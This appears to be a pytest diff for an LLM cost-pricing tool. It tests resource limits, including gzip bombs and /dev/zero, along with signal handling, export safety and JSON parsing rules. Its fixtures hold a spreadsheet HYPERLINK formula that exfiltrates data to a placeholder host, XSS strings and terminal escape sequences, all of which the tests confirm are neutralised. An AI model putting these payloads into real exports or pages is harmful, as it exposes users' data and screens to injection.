@@ -7,8 +7,12 @@ import gzip
 import io
 import json
 import os
+import shutil
 import sys
+import tempfile
 import threading
+from dataclasses import dataclass
+from typing import Any
 
 import pytest
 
@@ -179,12 +183,12 @@ def test_largest_token_counts_still_price(capsys, tmp_path):
     assert doc["accounting"]["priced"] == 3 and doc["totals"]["cost"]["total"] > 0
 
 
-def test_values_nested_too_deep_to_print_are_rejected_or_grouped(capsys, tmp_path):
-    deep = "[" * 300 + "]" * 300
-    deeper = "[" * 1000 + "]" * 1000
+def test_values_nested_deep_are_rejected_or_grouped(capsys, tmp_path):
+    # within the nesting limit (64 levels, the record being the first): a field of the wrong type, or a group
+    deep = "[" * 60 + "]" * 60
     obj = '{"model": "gpt-4o", "prompt_tokens": ' + deep + "}\n"
-    grouped = ('{"model": "gpt-4o", "prompt_tokens": 1, "user": ' + deeper + ', "tags": [' + deeper
-               + '], "metadata": {"a": ' + deeper + "}}\n")
+    grouped = ('{"model": "gpt-4o", "prompt_tokens": 1, "user": ' + deep[2:-2] + ', "tags": [' + deep[4:-4]
+               + '], "metadata": {"a": ' + deep[4:-4] + "}}\n")
     path = write(tmp_path, "u.jsonl", obj + grouped)
     rows = price_jsonl(capsys, path)
     assert rows[0]["status"] == "rejected" and rows[0]["reason"].startswith("prompt_tokens:")
@@ -511,3 +515,402 @@ def test_very_long_model_names_do_not_stall_wildcard_matching(capsys, tmp_path):
     path.write_text('{"model":"' + "a-" * 5000 + '","prompt_tokens":1}\n')
     assert main(["price", str(path), "--config", str(config), "-f", "json"]) == 0
     assert '"unpriced": 1' in capsys.readouterr().out
+
+
+# -- faults, as a user meets them: each case a real process, its exit code, message and peak memory ------------
+
+SRC = str(ROOT / "src")
+
+
+@dataclass
+class Finished:
+    code: int
+    out: str
+    err: str
+    peak_mib: float  # the process's (and its workers') peak resident memory
+    seconds: float
+
+
+def costcalc_process(*args: str, env: dict[str, str] | None = None, timeout: float = 120,
+                     signal_after: tuple[Any, int] | None = None, group: bool = False,
+                     address_space_mib: int | None = None, cwd: str | None = None,
+                     started: Any = None) -> Finished:
+    """``python -m costcalc ARGS`` as its own process (optionally with an address-space limit, and a signal sent
+    once ``signal_after[0]()`` says the run is under way: to the process, or to its process group as a terminal's
+    Ctrl-C is)."""
+    import resource
+    import signal as signals
+    import subprocess
+    import time
+
+    def limit() -> None:
+        if address_space_mib is not None:
+            size = address_space_mib << 20
+            resource.setrlimit(resource.RLIMIT_AS, (size, size))
+
+    peak_file = os.path.join(tempfile.mkdtemp(prefix="costcalc-peak-"), "peak")
+    environ = {**os.environ, "PYTHONPATH": SRC, "COSTCALC_TEST_PEAK": peak_file, **(env or {})}
+    t0 = time.monotonic()
+    proc = subprocess.Popen([sys.executable, "-c", MEASURED, *args], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, env=environ, preexec_fn=limit, start_new_session=group, cwd=cwd)
+    if started is not None:
+        started(proc)
+    timer = threading.Timer(timeout, proc.kill)
+    timer.start()
+    if signal_after is not None:
+        def send() -> None:
+            while not signal_after[0]() and proc.poll() is None:  # the moment the run is under way
+                time.sleep(0.01)
+            if proc.poll() is None:
+                if group:
+                    os.killpg(proc.pid, signal_after[1])
+                else:
+                    proc.send_signal(signal_after[1])
+
+        threading.Thread(target=send, daemon=True).start()
+    out_chunks: list[bytes] = []
+    err_chunks: list[bytes] = []
+    readers = [threading.Thread(target=lambda s=s, c=c: c.append(s.read())) for s, c in
+               ((proc.stdout, out_chunks), (proc.stderr, err_chunks))]
+    for r in readers:
+        r.start()
+    _, status, _ = os.wait4(proc.pid, 0)
+    proc.returncode = os.waitstatus_to_exitcode(status)
+    for r in readers:
+        r.join()
+    timer.cancel()
+    assert proc.returncode != -signals.SIGKILL, f"timed out after {timeout} s"
+    err = b"".join(err_chunks).decode(errors="replace")
+    assert "Traceback" not in err, err
+    peak_kib = float("nan")  # a process killed outright writes none: every comparison with it fails
+    if os.path.exists(peak_file):
+        with open(peak_file) as f:
+            peak_kib = int(f.read())
+    shutil.rmtree(os.path.dirname(peak_file))
+    return Finished(proc.returncode, b"".join(out_chunks).decode(errors="replace"), err, peak_kib / 1024,
+                    time.monotonic() - t0)
+
+
+# `costcalc ARGS` that writes its peak memory as it exits: its own high-water mark (VmHWM: a forked child's
+# rusage would count the test process it was forked from) and its workers' (their rusage: conservative)
+MEASURED = """
+import atexit, os, resource, sys
+from costcalc.cli import main
+
+def peak():
+    with open("/proc/self/status") as f:
+        own = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
+    workers = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    with open(os.environ["COSTCALC_TEST_PEAK"], "w") as f:
+        f.write(str(max(own, workers)))
+
+atexit.register(peak)
+sys.argv[0] = "costcalc"
+sys.exit(main(sys.argv[1:]))
+"""
+
+
+def one_error_line(err: str, *parts: str) -> None:
+    lines = [ln for ln in err.splitlines() if ln.strip()]
+    assert len(lines) == 1, err
+    for part in parts:
+        assert part in lines[0], (part, err)
+
+
+def test_dev_zero_is_refused_in_bounded_memory():
+    # was: 16 GB in 70 s, killed by the kernel at 22 GB. A 1 MiB line limit gives up after 64 MiB of no line end.
+    done = costcalc_process("price", "/dev/zero", env={"COSTCALC_MAX_LINE_BYTES": "1M"}, address_space_mib=2048)
+    assert done.code == 2
+    one_error_line(done.err, "/dev/zero", "no line end", "1,048,576")
+    assert done.peak_mib < 150, done.peak_mib
+
+
+def _gzip_file(path: Any, pieces: Any) -> None:
+    with gzip.open(path, "wb", compresslevel=1) as f:
+        for piece in pieces:
+            f.write(piece)
+
+
+@pytest.fixture(scope="module")
+def bomb(tmp_path_factory) -> str:
+    """A gzip of 300 MiB: one record, one line of 300 MiB, one record."""
+    path = tmp_path_factory.mktemp("bomb") / "bomb.jsonl.gz"
+    line = b'{"model": "gpt-4o", "prompt_tokens": 10}\n'
+    _gzip_file(path, [line, b'{"model": "', *([b"a" * (1 << 20)] * 300), b'", "prompt_tokens": 1}\n', line])
+    return str(path)
+
+
+@pytest.mark.parametrize("engine", ["python", "duckdb"])
+def test_a_gzip_bomb_line_is_rejected_with_its_number_in_bounded_memory(bomb, engine):
+    done = costcalc_process("price", bomb, "--format", "json", "--engine", engine, "--quiet")
+    assert done.code == 0, done.err
+    doc = json.loads(done.out)
+    assert doc["accounting"]["priced"] == 2 and doc["accounting"]["rejected"] == 1
+    (rejected,) = doc["rejected"]
+    assert rejected["line"] == 2 and "longer than the limit of 16,777,216" in rejected["reason"]
+    assert done.peak_mib < 250, done.peak_mib  # the line alone is 300 MiB
+
+
+def test_a_long_plain_line_is_rejected_while_reading(tmp_path):
+    path = tmp_path / "long.jsonl"
+    with open(path, "wb") as f:
+        f.write(b'{"model": "gpt-4o", "prompt_tokens": 1}\n{"model": "')
+        for _ in range(40):
+            f.write(b"b" * (1 << 20))
+        f.write(b'", "prompt_tokens": 1}\n{"model": "gpt-4o", "prompt_tokens": 2}\n')
+    for jobs in ("1", "2"):
+        done = costcalc_process("price", str(path), "--format", "jsonl", "--jobs", jobs,
+                                env={"COSTCALC_MAX_LINE_BYTES": "8M"}, address_space_mib=2048)
+        assert done.code == 0, done.err
+        rows = [json.loads(x) for x in done.out.splitlines()]
+        assert [(r["line"], r["status"]) for r in rows] == [(1, "priced"), (2, "rejected"), (3, "priced")]
+        assert "longer than the limit of 8,388,608" in rows[1]["reason"]
+        assert done.peak_mib < 150, done.peak_mib
+
+
+def test_a_gzip_of_blank_lines_takes_seconds_not_minutes(tmp_path):
+    # 256 Mi blank lines: at the former 1.8 µs a line, 8 minutes (the 120 s timeout); the record after them keeps
+    # its line number
+    path = tmp_path / "blank.jsonl.gz"
+    _gzip_file(path, [*([b"\n" * (1 << 20)] * 256), b'{"model": "gpt-4o", "prompt_tokens": 1}\n', b"{bad\n"])
+    for engine in ("python", "duckdb"):
+        done = costcalc_process("price", str(path), "--format", "json", "--engine", engine, "--quiet")
+        assert done.code == 0, done.err
+        doc = json.loads(done.out)
+        assert doc["accounting"]["priced"] == 1
+        assert [r["line"] for r in doc["rejected"]] == [(256 << 20) + 2]
+        assert done.peak_mib < 250, done.peak_mib
+
+
+FORMAT_ARGS = [["--format", "table"], ["--format", "json"], ["--format", "jsonl"], ["--format", "csv"],
+               ["--format", "csv", "--per-record"], ["--format", "markdown"], ["--format", "html"],
+               ["--format", "focus"]]
+
+
+@pytest.mark.parametrize("fmt", FORMAT_ARGS, ids=lambda a: "-".join(a[1:]))
+def test_a_run_that_fails_midway_leaves_the_previous_report_untouched(tmp_path, fmt):
+    good = write(tmp_path, "good.jsonl", lines(*[{"model": "gpt-4o", "prompt_tokens": n, "timestamp": 1.7e9 + n}
+                                                 for n in range(1, 3001)]))
+    truncated = write(tmp_path, "late.jsonl.gz", gzip.compress(good_bytes(good))[:-40])
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+    report, rejects = out_dir / "report", out_dir / "rejects.txt"
+    report.write_text("previous report\n")
+    rejects.write_text("previous rejects\n")
+    done = costcalc_process("price", good, truncated, *fmt, "--output", str(report), "--rejects", str(rejects),
+                            "--engine", "python", "--quiet")
+    assert done.code == 2
+    one_error_line(done.err, "late.jsonl.gz")
+    assert report.read_text() == "previous report\n" and rejects.read_text() == "previous rejects\n"
+    assert sorted(os.listdir(out_dir)) == ["rejects.txt", "report"]  # no temporary file left beside them
+    done = costcalc_process("price", good, *fmt, "--output", str(report), "--engine", "python", "--quiet")
+    assert done.code == 0 and report.read_text() != "previous report\n"
+    assert sorted(os.listdir(out_dir)) == ["rejects.txt", "report"]
+
+
+def good_bytes(path: str) -> bytes:
+    with open(path, "rb") as f:
+        return f.read()
+
+
+@pytest.fixture(scope="module")
+def big_usage(tmp_path_factory) -> str:
+    """About 40 MB of records: long enough to price that a signal lands while it runs."""
+    path = tmp_path_factory.mktemp("big") / "big.jsonl"
+    one = b'{"model": "gpt-4o", "prompt_tokens": 1000, "completion_tokens": 10, "user": "u", "timestamp": 1.7e9}\n'
+    path.write_bytes(one * 400_000)
+    return str(path)
+
+
+@pytest.mark.parametrize(("sig", "code", "word"), [(2, 130, "interrupted"), (15, 143, "SIGTERM"), (1, 129, "SIGHUP")])
+@pytest.mark.parametrize("mode", [["--format", "jsonl", "--jobs", "2"], ["--format", "json", "--engine", "duckdb"],
+                                  ["--format", "csv", "--per-record", "--jobs", "1"]],
+                         ids=["workers", "duckdb", "one-process"])
+def test_signals_exit_with_one_line_and_leave_the_previous_report(tmp_path, big_usage, sig, code, word, mode):
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+    report = out_dir / "report"
+    report.write_text("previous report\n")
+    spill = tmp_path / "tmp"
+    spill.mkdir()
+
+    def under_way() -> bool:
+        # what each run makes first once it is reading: DuckDB's spill directory, the workers' run directory,
+        # the temporary report beside the target
+        return any(spill.iterdir()) if "duckdb" in mode else len(os.listdir(out_dir)) > 1
+
+    # Ctrl-C goes to the terminal's whole process group (workers included); kill sends to one process
+    done = costcalc_process("price", big_usage, *mode, "--output", str(report), "--quiet", env={"TMPDIR": str(spill)},
+                            signal_after=(under_way, sig), group=sig == 2, timeout=120)
+    assert done.code == code, (done.code, done.err, done.seconds)
+    one_error_line(done.err, word)
+    assert "BrokenPipeError" not in done.err
+    assert report.read_text() == "previous report\n"
+    assert os.listdir(out_dir) == ["report"]  # no temporary report, no run directory of worker parts
+
+
+def test_the_big_config_message_says_what_it_counts():
+    from costcalc.rates.config import MAX_YAML_NODES, YAMLProblem, _check_bounds
+
+    plain = {"model_list": [{"model_name": f"m{i}", "x": [1, 2, 3]} for i in range(MAX_YAML_NODES // 4)]}
+    with pytest.raises(YAMLProblem, match="the config holds more than 1,000,000 values"):
+        _check_bounds(plain)
+    shared = [1] * 1000
+    aliased = {"a": [shared] * 2000}
+    with pytest.raises(YAMLProblem, match="YAML aliases expand to more than 1,000,000 values"):
+        _check_bounds(aliased)
+
+
+# -- exports safe to open, text safe to show -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\r=CR"]
+
+
+def hostile_usage(tmp_path) -> str:
+    recs = [{"model": "gpt-4o", "prompt_tokens": 10 + i, "timestamp": 1.7e9 + i, "team": f, "user": f}
+            for i, f in enumerate(FORMULAS)]
+    recs.append({"model": "gpt-4o", "prompt_tokens": 1, "timestamp": 1.7e9, "team": 'a,b "q"\r\nnext', "user": "ok"})
+    recs.append({"model": 'bad\r\nmodel,"x"', "prompt_tokens": 1, "timestamp": 1.7e9, "team": "t", "user": "ok"})
+    return write(tmp_path, "hostile.jsonl", lines(*recs))
+
+
+def test_formula_cells_are_neutralised_in_csv_and_focus_and_read_back_whole(capsys, tmp_path, monkeypatch):
+    import csv as csv_module
+
+    import duckdb
+
+    from costcalc.reports.cells import printable, spreadsheet_cell
+
+    path = hostile_usage(tmp_path)
+    for args in (["--format", "csv", "-g", "team"], ["--format", "csv", "--per-record"],
+                 ["--format", "csv", "-g", "team", "--currency", "EUR", "--fx-rate", "0.5"], ["--format", "focus"]):
+        out = tmp_path / "out.csv"
+        code, _, err = run(capsys, "price", path, *args, "--output", str(out))
+        assert code == 0, err
+        with open(out, newline="") as f:
+            rows = list(csv_module.reader(f))
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], args
+        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()], args
+        if "focus" not in args:  # the teams as the JSON report has them, each neutralised when it would be a formula
+            code, doc, _ = run(capsys, "price", path, "--format", "json", "-g", "team")
+            teams = {g["key"]["team"] for g in json.loads(doc)["groups"]}
+            col = rows[0].index("team")
+            written = {row[col] for row in rows[1:]} - {"", "TOTAL"}
+            # (control characters in group keys show as \xNN in some exports, as on a terminal)
+            assert {spreadsheet_cell(printable(t)) for t in teams} <= written \
+                or {spreadsheet_cell(t) for t in teams} <= written
+        if "--per-record" in args:  # a model name is written as it is: CR, LF, quotes and commas read back whole
+            assert rows[-1][rows[0].index("model")] == 'bad\r\nmodel,"x"'
+        assert len(rows) == len({tuple(r) for r in rows}) and all(len(r) == len(rows[0]) for r in rows)
+        # DuckDB's reader sees the same rows: a CR or LF inside a value does not split its row
+        assert len(duckdb.read_csv(str(out), header=True, all_varchar=True).fetchall()) == len(rows) - 1
+    monkeypatch.setenv("COSTCALC_RAW_CELLS", "1")  # the opt-out: values byte for byte
+    code, out_text, _ = run(capsys, "price", path, "--format", "csv", "-g", "team")
+    assert code == 0
+    teams = [row[0] for row in csv_module.reader(io.StringIO(out_text, newline=""))]
+    assert set(FORMULAS) <= set(teams)
+
+
+def test_discounts_written_by_costcalc_stay_numbers(capsys, tmp_path):
+    config = write(tmp_path, "c.yaml", "model_list:\n  - model_name: m\n    litellm_params: {model: openai/gpt-4o}\n"
+                   "litellm_settings: {cost_discount_config: {openai: 0.5}}\n")
+    path = write(tmp_path, "u.jsonl", lines({"model": "m", "prompt_tokens": 1000}))
+    code, out, _ = run(capsys, "price", path, "--config", config, "--format", "csv")
+    assert code == 0
+    header, row, _ = list(csv_module_reader(out))
+    # 1000 tokens x $2.5e-6 = $0.0025, half of it discounted
+    assert row[header.index("discount_cost")] == "-0.00125"
+
+
+def csv_module_reader(text: str) -> list[list[str]]:
+    import csv as csv_module
+
+    return list(csv_module.reader(io.StringIO(text, newline="")))
+
+
+def test_markdown_escapes_html_and_control_characters(capsys, tmp_path):
+    path = write(tmp_path, "u.jsonl", lines(
+        {"model": "gpt-4o", "prompt_tokens": 1, "team": "<script>alert(1)</script>"},
+        {"model": "gpt-4o", "prompt_tokens": 1, "team": "<img src=x onerror=alert(1)> & <iframe srcdoc='x'>"},
+        {"model": "gpt-4o", "prompt_tokens": 1, "team": "\x1b[2A\x1b[2Kgone"},
+        {"model": "<b>bold</b>", "prompt_tokens": 1}))
+    code, out, _ = run(capsys, "price", path, "-g", "team", "--format", "markdown")
+    assert code == 0
+    assert "<" not in out.replace("<br>", "") and "\x1b" not in out
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out and "&amp;" in out and "\\x1b[2A\\x1b[2Kgone" in out
+    code, out, _ = run(capsys, "price", path, "-g", "team")
+    assert code == 0 and "\x1b" not in out and "\\x1b[2A" in out
+
+
+# -- one JSON semantics across engines -------------------------------------------------------------------------
+
+ODD_JSON = (b'{"model": "gpt-4o", "prompt_tokens": 10, "prompt_tokens": 20000}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "user": "a", "user" : "b"}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "metadata": {"x": 1, "x": 2}}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "\\u0075ser": "a", "user": "b"}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "tags": ' + b"[" * 64 + b"]" * 64 + b"}\n"
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "tags": ' + b"[" * 62 + b"]" * 62 + b"}\n"
+            b'{"model": "gpt-4o", "prompt_tokens": 7, "note": "a\\":1, \\"b\\":2"}\n')
+
+
+@pytest.mark.parametrize("engine", ["python", "duckdb"])
+def test_repeated_keys_and_deep_nesting_are_rejected_by_every_engine(capsys, tmp_path, engine):
+    path = write(tmp_path, "odd.jsonl", ODD_JSON * 3)
+    doc = price_json(capsys, path, "--engine", engine)
+    assert doc["accounting"]["priced"] == 6 and doc["accounting"]["rejected"] == 15
+    reasons = {(r["line"] - 1) % 7 + 1: r["reason"] for r in doc["rejected"]}
+    assert reasons[1].startswith('repeated key "prompt_tokens"')
+    assert reasons[2].startswith('repeated key "user"') and reasons[4].startswith('repeated key "user"')
+    assert reasons[3].startswith('repeated key "x"')
+    assert reasons[5].startswith("nested deeper than 64 levels")
+    # 3 x (5 tokens at $2.5e-6 + 7 tokens at $2.5e-6) = $0.00009, and the sample config's 5% global margin
+    assert doc["totals"]["cost"]["total"] == 0.0000945
+
+
+# -- databases: the password, a frozen server ------------------------------------------------------------------
+
+def test_a_url_password_is_gone_from_the_process_arguments(tmp_path):
+    import socket
+
+    # a server that accepts and never answers: costcalc waits (connect timeout) long enough to be looked at
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(5)
+    port = listener.getsockname()[1]
+    seen: list[bytes] = []
+
+    def look(proc: Any) -> None:
+        import time
+
+        def read() -> None:
+            time.sleep(1.5)
+            with open(f"/proc/{proc.pid}/cmdline", "rb") as f:
+                seen.append(f.read())
+
+        threading.Thread(target=read, daemon=True).start()
+
+    try:
+        done = costcalc_process("price", f"postgresql://u:hunter2-pw@127.0.0.1:{port}/db", "--db-timeout", "3",
+                                started=look, timeout=60)
+    finally:
+        listener.close()
+    assert seen and b"postgresql://u:" in seen[0] and b"hunter2-pw" not in seen[0], seen
+    assert done.code == 2
+    one_error_line(done.err, "postgresql://u:***@127.0.0.1", "unreachable")
+    assert "hunter2-pw" not in done.err
+
+
+def test_a_json_array_file_has_the_same_json_rules_and_a_size_bound(capsys, tmp_path, monkeypatch):
+    path = write(tmp_path, "spend.json", json.dumps([{"model": "gpt-4o", "prompt_tokens": 1}]).replace("]", "")
+                 + ', {"model": "gpt-4o", "prompt_tokens": 1, "prompt_tokens": 9}, '
+                 '{"model": "gpt-4o", "prompt_tokens": 1, "m": {"a": [{"b": 1, "b": 2}]}}, '
+                 '{"model": "gpt-4o", "prompt_tokens": 1, "tags": ' + "[" * 64 + "]" * 64 + "}]")
+    rows = price_jsonl(capsys, path)
+    assert [(r["line"], r["status"], r.get("reason", "")[:22]) for r in rows] == [
+        (1, "priced", ""), (2, "rejected", 'repeated key "prompt_t'), (3, "rejected", 'repeated key "b" in on'),
+        (4, "rejected", "nested deeper than 64 ")]
+    # past 16 times the line limit a JSON array is not held whole: it is read as lines (here: one too long)
+    monkeypatch.setenv("COSTCALC_MAX_LINE_BYTES", "20")
+    rows = price_jsonl(capsys, path)
+    assert [(r["line"], r["status"]) for r in rows] == [(1, "rejected")] and "longer than" in rows[0]["reason"]
